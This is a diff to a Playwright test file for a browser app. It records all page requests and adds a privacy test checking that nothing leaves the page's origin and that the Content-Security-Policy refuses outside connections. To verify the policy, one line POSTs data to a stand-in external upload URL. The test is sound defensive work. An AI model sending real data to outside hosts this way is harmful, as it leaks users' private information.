@@ -15,6 +15,7 @@ import { waitForAppState, readTable } from './bench_page.mjs';
 const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
 const dist = path.join(root, 'dist');
 let server, browser, page, base;
+const requested = [];
 
 async function freePort() {
   return new Promise((resolve) => {
@@ -51,6 +52,8 @@ before(async () => {
       '--disable-background-networking', '--disable-component-update', '--disable-sync'],
   });
   page = await browser.newPage({ viewport: { width: 1200, height: 1500 }, deviceScaleFactor: 1 });
+  // Every request of the page and its workers, for the privacy check at the end.
+  page.context().on('request', (r) => requested.push(r.url()));
   page.on('pageerror', (e) => console.error('page error:', e.message));
   await page.goto(base);
   await page.waitForSelector(byId('app'));
@@ -561,4 +564,20 @@ test('a million-row, 80 MB file is read in the worker while the page stays respo
   assert.ok(sawProgress, 'reading progress was shown');
   assert.ok(gap < 1000, `the page's event loop never stalled for a second (longest gap ${gap.toFixed(0)} ms)`);
   fs.rmSync(path.dirname(file), { recursive: true, force: true });
+});
+
+test('no request leaves the page\'s origin, and the Content-Security-Policy forbids one', async () => {
+  // The whole flow above (sample, uploads, training on the GPU and the CPU, comparisons):
+  // every request went to the page's own origin, or stayed in the browser (blob:, data:).
+  assert.ok(requested.length > 5, `requests seen: ${requested.length}`);
+  const origin = new URL(base).origin;
+  const away = requested.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:') && new URL(u).origin !== origin);
+  assert.deepEqual(away, [], 'requests to other origins');
+  // The policy itself: a request elsewhere is refused by the browser, not just not made.
+  const violated = await page.evaluate(() => new Promise((resolve) => {
+    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+    fetch('https://example.com/upload', { method: 'POST', body: 'data' }).catch(() => {});
+    setTimeout(() => resolve('no violation reported'), 5000);
+  }));
+  assert.equal(violated, 'connect-src');
 });
